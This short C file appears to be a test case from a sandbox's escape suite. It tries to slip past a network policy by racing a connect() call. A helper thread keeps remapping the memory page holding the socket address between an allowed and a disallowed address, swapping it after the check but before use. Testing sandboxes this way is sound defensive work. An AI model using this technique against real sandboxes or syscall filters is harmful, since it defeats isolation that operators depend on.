// escape: exchanges the page under the address by mapping another file over it
// group: argument races
// policy: network
// attempts: 10000
#include "escape.h"

static char* page;

static void* exchange(void* files) {
  for (int i = 0;; i = !i) {
    mmap(page, 4096, PROT_READ, MAP_SHARED | MAP_FIXED, ((int*)files)[i], 0);
    unsigned seed = (unsigned)i;
    moment(&seed);
  }
  return NULL;
}

static void attack(void) {
  struct sockaddr_in first = the_friend(), second = stranger();
  static int files[2];
  files[0] = memfd_with(&first, sizeof first);
  files[1] = memfd_with(&second, sizeof second);
  page = mmap(NULL, 4096, PROT_READ, MAP_SHARED, files[0], 0);
  if (page == MAP_FAILED) broken("mmap");
  thread(exchange, files);
  while (more()) {
    const int fd = tcp(AF_INET);
    connect(fd, (struct sockaddr*)page, sizeof first);
    close(fd);
  }
}
